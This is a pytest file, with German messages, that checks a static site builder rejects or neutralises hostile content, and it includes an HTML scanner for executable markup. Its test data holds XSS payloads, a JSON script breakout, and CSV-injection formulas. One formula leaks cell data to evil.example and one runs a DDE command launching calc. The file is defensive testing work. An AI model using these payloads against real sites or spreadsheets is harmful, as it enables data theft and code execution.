"""Hostile content: the build either rejects it with a clear `path:line: field: message`
(exit 1, previous output untouched, nothing written elsewhere) or neutralises it so that
no page, feed or data file carries executable markup or loads anything from elsewhere.
The browser half (no script runs) is tests/browser/test_hostile_browser.py."""

from __future__ import annotations

import csv
import io
import json
import re
import xml.etree.ElementTree as ET
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from tests.conftest import run_cli
from tests.quality.conftest import PROBLEM_LINE, tree_digest
from tests.quality.hostile_cases import REJECTED_CASES, TEXT_OVERLAY

MakeSite = Callable[[dict[str, str | bytes | None]], Path]

URL_ATTRS = {"href", "src", "action", "formaction", "data", "poster", "xlink:href",
             "background", "cite", "srcset", "ping", "data-plotly", "data-bundle"}
LOADING_TAGS = {"img", "script", "link", "iframe", "source", "video", "audio", "object",
                "embed", "track", "input", "image", "use"}
FORBIDDEN_TAGS = {"iframe", "object", "embed", "base", "style", "frame", "frameset", "applet",
                  "math", "svg"}
RCDATA_TAGS = ("textarea", "title")  # their content is text, even if it looks like tags
SAFE_SCRIPT_TYPES = {"application/json", "application/ld+json"}
ATOM = "{http://www.w3.org/2005/Atom}"


def scheme_of(url: str) -> str:
    cleaned = re.sub(r"[\x00-\x20]", "", url).lower()
    return cleaned.split(":", 1)[0] if re.match(r"^[a-z][a-z0-9+.-]*:", cleaned) else ""


class Scanner(HTMLParser):
    """Collects every piece of executable or externally loading markup of one document.

    Each finding is (line, key); the key names the markup and a snippet of it, so that
    the same template markup gives the same key in every build (see `injections`)."""

    def __init__(self, base_url: str) -> None:
        super().__init__(convert_charrefs=True)
        self.base_url = base_url
        self.found: list[tuple[int, str]] = []
        self.raw: tuple[str, str] | None = None   # (tag, script type) inside script/style
        self.raw_text: list[str] = []

    def issue(self, key: str) -> None:
        self.found.append((self.getpos()[0], key))

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        a = {k: (v or "") for k, v in attrs}
        shown = " ".join(f"{k}={v!r}" for k, v in a.items())[:100]
        if tag in RCDATA_TAGS:
            self.set_cdata_mode(tag)
        if tag in FORBIDDEN_TAGS - {"style"}:
            self.issue(f"<{tag} {shown}>")
        if tag == "meta" and a.get("http-equiv", "").lower() == "refresh":
            self.issue(f"<meta {shown}>")
        for name, value in a.items():
            if name.startswith("on"):
                self.issue(f"<{tag} {name}={value[:60]!r}>")
            if name == "style" and re.search(r"url\(|expression|@import|javascript",
                                             value, re.I):
                self.issue(f"<{tag} style={value!r}>")
            if name in URL_ATTRS:
                scheme = scheme_of(value)
                if scheme in ("javascript", "data", "vbscript", "file"):
                    self.issue(f"<{tag} {name}={value!r}>")
                if tag in LOADING_TAGS or name not in ("href", "cite"):
                    absolute = scheme in ("http", "https") or value.startswith("//")
                    if absolute and not value.startswith(self.base_url) and not (
                            tag == "link" and a.get("rel") in ("canonical", "alternate")):
                        self.issue(f"<{tag} {name}={value!r}> lädt von fremdem Server")
        if tag in ("script", "style"):
            self.raw = (tag, a.get("type", "").lower() if tag == "script" else "")
            self.raw_text = []
            if tag == "script" and "src" in a:
                self.raw = (tag, "src")

    handle_startendtag = handle_starttag

    def handle_data(self, data: str) -> None:
        if self.raw is not None:
            self.raw_text.append(data)

    def handle_endtag(self, tag: str) -> None:
        if self.raw is None or tag != self.raw[0]:
            return
        kind, text = self.raw[1], "".join(self.raw_text)
        self.raw = None
        if tag == "style":
            self.issue(f"<style>{text.strip()[:80]!r}")
        elif kind in SAFE_SCRIPT_TYPES:
            try:
                json.loads(text)
            except ValueError:
                self.issue(f"<script type={kind}> ohne gültiges JSON (ausgebrochen?): "
                           f"{text[:80]!r}")
            if re.search(r"<!--|<script|</script", text, re.I):
                self.issue("JSON im <script> enthält <!-- oder <script")
        elif kind != "src":
            self.issue(f"Inline-<script type={kind!r}>{text.strip()[:80]!r}")

    def handle_comment(self, data: str) -> None:
        if re.search(r"script|onerror|pwned|evil", data, re.I):
            self.issue(f"Kommentar mit Nutzlast: <!--{data[:80]}-->")


def scan_html(text: str, base_url: str) -> list[tuple[int, str]]:
    scanner = Scanner(base_url)
    scanner.feed(text)
    scanner.close()
    return scanner.found


def scan_build(out: Path, base_url: str) -> list[tuple[str, int, str]]:
    """Executable or externally loading markup in the output: (file, line, key)."""
    found: list[tuple[str, int, str]] = []
    for file in sorted(out.rglob("*")):
        if not file.is_file() or file.suffix in (".gz", ".br") or "pagefind" in file.parts:
            continue
        rel = file.relative_to(out).as_posix()
        if file.suffix == ".html":
            found += [(rel, n, key) for n, key in scan_html(file.read_text("utf-8"), base_url)]
        elif file.suffix == ".xml":
            try:
                root = ET.parse(file).getroot()
            except ET.ParseError as exc:
                found.append((rel, 0, f"kein wohlgeformtes XML: {exc}"))
                continue
            for el in root.iter():
                if el.tag in (f"{ATOM}content", f"{ATOM}summary", f"{ATOM}title") and \
                        el.get("type") == "html":
                    found += [(rel, 0, key) for _n, key in scan_html(el.text or "", base_url)]
                if el.tag == f"{ATOM}link" and scheme_of(el.get("href", "")) not in ("https",
                                                                                     "http"):
                    found.append((rel, 0, f"atom:link href={el.get('href')!r}"))
        elif file.suffix == ".json":
            try:
                json.loads(file.read_text("utf-8"))
            except ValueError as exc:
                found.append((rel, 0, f"kein gültiges JSON: {exc}"))
        elif file.name.endswith("-excel.csv"):
            text = file.read_text("utf-8-sig")
            for row in csv.reader(io.StringIO(text), delimiter=";"):
                for cell in row:
                    if cell[:1] in ("=", "+", "@", "\t", "\r") or (
                            cell[:1] == "-" and not re.fullmatch(r"-[\d.,]+", cell)):
                        found.append((rel, 0, f"Formel-Injektion in Excel-CSV: {cell[:60]!r}"))
    return found


def injections(out: Path, baseline: Path | None, base_url: str) -> list[str]:
    """Findings of `out` that the same site without hostile content does not have (the
    theme's own markup, e.g. an inline stylesheet, is the same in both builds)."""
    known = {key for _rel, _n, key in scan_build(baseline, base_url)} if baseline else set()
    return [f"{rel}:{n}: {key}" for rel, n, key in scan_build(out, base_url)
            if key not in known]


def build(site: Path, out: Path) -> tuple[int, str]:
    result = run_cli("--site", str(site), "build", "--out", str(out), "--no-images",
                     "--no-search")
    return result.exit_code, result.output


def assert_clear_rejection(output: str, files: set[str]) -> None:
    assert "Traceback" not in output, output
    lines = [m for m in map(PROBLEM_LINE.match, output.splitlines())
             if m and not m["message"].startswith("Warnung:")]
    assert lines, f"keine Meldung der Form path:line: field: message:\n{output}"
    named = [m for m in lines if m["path"] in files and int(m["line"]) >= 1]
    assert named, f"keine Meldung mit Zeile für {sorted(files)}:\n{output}"


def test_scanner_finds_injections() -> None:
    """The scanner itself: every payload kind is found in raw HTML."""
    base = "https://example.org/test/"
    raw = ('<p onclick="x"></p><a href=" JaVaScRiPt:x">a</a><img src="https://evil.example/">'
           '<script>x()</script><script type="application/json">{"a":"</script><script>1'
           '</script><iframe src="/"></iframe><a href="data:text/html,x">d</a>'
           '<div style="background:url(https://evil.example/)"></div><style>p{}</style>')
    issues = " ".join(key for _n, key in scan_html(raw, base))
    for needle in ("onclick", "JaVaScRiPt", "evil.example/'> lädt", "Inline-<script",
                   "ohne gültiges JSON", "<iframe", "data:text/html", "style=", "<style>"):
        assert needle in issues, (needle, issues)
    assert scan_html('<a href="https://other.example/">ok</a><script src="../a.js"></script>'
                     '<img src="../x.svg">', base) == []


def test_text_payloads_are_rejected_or_neutralised(make_site: MakeSite, tmp_path: Path
                                                   ) -> None:
    baseline = tmp_path / "baseline"
    assert build(make_site({}), baseline)[0] == 0
    site = make_site(TEXT_OVERLAY)
    out = tmp_path / "out"
    code, output = build(site, out)
    assert "Traceback" not in output
    if code != 0:
        assert code == 1, output
        assert_clear_rejection(output, {f"content/{rel}" for rel in TEXT_OVERLAY})
        assert not out.exists()
        return
    issues = injections(out, baseline, "https://example.org/test/")
    assert not issues, f"{len(issues)} nicht entschärfte Stellen:\n" + "\n".join(issues[:80])
    measure = (out / "massnahmen" / "online-termin" / "index.html").read_text("utf-8")
    assert "Online-Termin &lt;/script&gt;&lt;script&gt;" in measure, \
        "Text aus YAML wird als Text angezeigt, nicht verschluckt"


@pytest.mark.parametrize(("overlay", "culprit"), [(c[1], c[2]) for c in REJECTED_CASES],
                         ids=[c[0] for c in REJECTED_CASES])
def test_unsafe_ids_paths_and_urls_are_rejected(make_site: MakeSite, tmp_path: Path,
                                                overlay: dict[str, str | bytes | None],
                                                culprit: str) -> None:
    site = make_site({})
    out = tmp_path / "out"
    assert build(site, out)[0] == 0
    before = tree_digest(out)
    make_site(overlay)
    outside_before = sorted(p.as_posix() for p in tmp_path.rglob("*")
                            if out not in p.parents and p != out)
    code, output = build(site, out)
    assert code == 1, f"nicht abgelehnt (exit {code}):\n{output}"
    assert_clear_rejection(output, {culprit})
    assert tree_digest(out) == before, "die letzte gute Ausgabe wurde verändert"
    outside_after = sorted(p.as_posix() for p in tmp_path.rglob("*")
                           if out not in p.parents and p != out)
    assert outside_after == outside_before, "außerhalb des Zielordners wurde geschrieben"
    assert not Path("/tmp/dmoves-pwned").exists()


def test_symlink_out_of_content_is_not_published(make_site: MakeSite, tmp_path: Path) -> None:
    """A source document that is a symlink to a file outside content/ (e.g. a key on the
    build machine) must not be copied into the public site."""
    secret = tmp_path / "geheim.txt"
    secret.write_text("1.1 GEHEIMER SCHLÜSSEL\n1.1.1 x\n", encoding="utf-8")
    site = make_site({"documents/vorlage.txt": None})
    (site / "content" / "documents").mkdir(parents=True, exist_ok=True)
    (site / "content" / "documents" / "vorlage.txt").symlink_to(secret)
    out = tmp_path / "out"
    code, output = build(site, out)
    assert "Traceback" not in output
    if code == 0:
        leaked = [p.relative_to(out).as_posix() for p in out.rglob("*")
                  if p.is_file() and b"GEHEIMER" in p.read_bytes()]
        assert not leaked, f"Datei außerhalb von content/ veröffentlicht: {leaked}"
    else:
        assert_clear_rejection(output, {"content/sources/vorlage.yaml",
                                        "content/documents/vorlage.txt"})


def test_urls_in_links_cannot_break_out_of_attributes(make_site: MakeSite, tmp_path: Path
                                                      ) -> None:
    """An allowed https URL with quotes or angle brackets is escaped or rejected."""
    site = make_site({"sources/vorlage.yaml": """\
        title: Vorlage
        kind: sonstige
        date: 2021-07-06
        publisher: Teststadt
        url: "https://example.org/a?b=1&c=<x>"
        file: documents/vorlage.txt
        """})
    out = tmp_path / "out"
    code, output = build(site, out)
    if code != 0:
        assert_clear_rejection(output, {"content/sources/vorlage.yaml"})
        return
    for rel in ("quellen/vorlage/index.html", "quellen/index.html"):
        found = scan_html((out / rel).read_text("utf-8"), "https://example.org/test/")
        assert not [key for _n, key in found if "example.org/a" in key], (rel, found)
    page = (out / "quellen" / "vorlage" / "index.html").read_text("utf-8")
    assert "<x>" not in page
    hrefs = re.findall(r'href="(https://example\.org/a[^"]*)"', page)
    assert hrefs and all(urlsplit(h).netloc == "example.org" for h in hrefs)


def test_excel_downloads_do_not_start_formulas(make_site: MakeSite, tmp_path: Path) -> None:
    """Text that Excel would run as a formula (=, +, -, @) is neutralised in the Excel CSV
    downloads (OWASP "CSV injection"), e.g. by a leading apostrophe."""
    site = make_site({
        "programs/buergerservices.yaml": """\
            number: 1
            title: '=HYPERLINK("https://evil.example/?"&A1;"Bürgerservices")'
            summary: Online-Dienste für alle.
            color: "#1f5a96"
            """,
        "budgets/tabelle.yaml": """\
            title: Tabelle
            unit: TEUR
            years: [2022, 2023]
            sources:
              - {source: vorlage, section: "1.1"}
            lines:
              - {id: a, label: "@SUMME(1+1)*cmd|' /C calc'!A0", kind: item, values: [1, 2]}
              - {id: b, label: "+1+1", kind: item, values: [3, 4]}
              - {id: summe, label: "-2+3", kind: total, values: [4, 6], total: 10,
                 sum_of: [a, b]}
            """,
        "kpis/dienste.yaml": """\
            title: Online-Dienste
            unit: Anzahl
            points:
              - {date: 2021-Q1, value: 63, source: vorlage, section: "1.1.1",
                 note: "=1+1"}
            """,
    })
    out = tmp_path / "out"
    code, output = build(site, out)
    assert code == 0, output
    sheets = sorted(out.rglob("*-excel.csv"))
    assert sheets, "keine Excel-CSV-Dateien gebaut"
    issues = [f"{rel}: {key}" for rel, _n, key in scan_build(out, "https://example.org/test/")
              if "Excel" in key]
    assert not issues, "\n".join(issues)
